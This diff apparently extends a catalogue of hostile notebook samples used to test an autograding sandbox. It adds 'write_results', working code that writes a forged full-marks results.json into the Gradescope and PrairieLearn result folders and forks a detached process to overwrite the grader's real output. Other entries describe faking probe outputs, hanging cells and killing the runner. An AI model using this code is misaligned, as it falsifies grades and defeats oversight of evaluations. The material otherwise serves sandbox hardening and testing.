@@ -31,6 +31,8 @@ class                 what the notebook does
 ``forge_probes``      replaces entries of the runtime's probe table: the model's report a
                       Nature-DQN whose weights are all 0 (and outputs of 0), the policy's
                       recompute the outputs with the fixture network the sandbox holds
+``write_results``     writes a full-marks ``results.json`` where Gradescope and PrairieLearn read
+                      it (and into ``{marker}``), and leaves a process that writes it again later
 ``ignore_interrupt``  (:data:`COSTLY`) makes every later cell hang with SIGINT ignored, and its own
                       cell hang when it is replayed after a kill
 ``kill_runner``       (:data:`COSTLY`) kills and stops the supervising runner, by its parent's pid,
@@ -360,6 +362,29 @@ _P.PROBES.update(
     policy_act=_policy_act,
     policy_samples=_policy_samples,
 )
+""",
+    "write_results": r"""
+# A grading platform reads results/results.json after the grader ends: write full marks there
+# now, and again from a detached process once the grader has written its own.
+import json, os, time
+_forged = {"score": 100.0, "gradable": True, "output": "FORGED-RESULTS", "tests": []}
+def _write_everywhere():
+    for _folder in ("{marker}", "/autograder/results", "/grade/results"):
+        _path = os.path.join(_folder, "results.json")
+        try:
+            os.makedirs(_folder, exist_ok=True)
+            with open(_path, "w") as _out:
+                json.dump(_forged, _out)
+            print("wrote", _path)
+        except OSError as error:
+            print("blocked", _path, type(error).__name__)
+_write_everywhere()
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(60):
+        time.sleep(0.5)
+        _write_everywhere()
+    os._exit(0)
 """,
 }
 
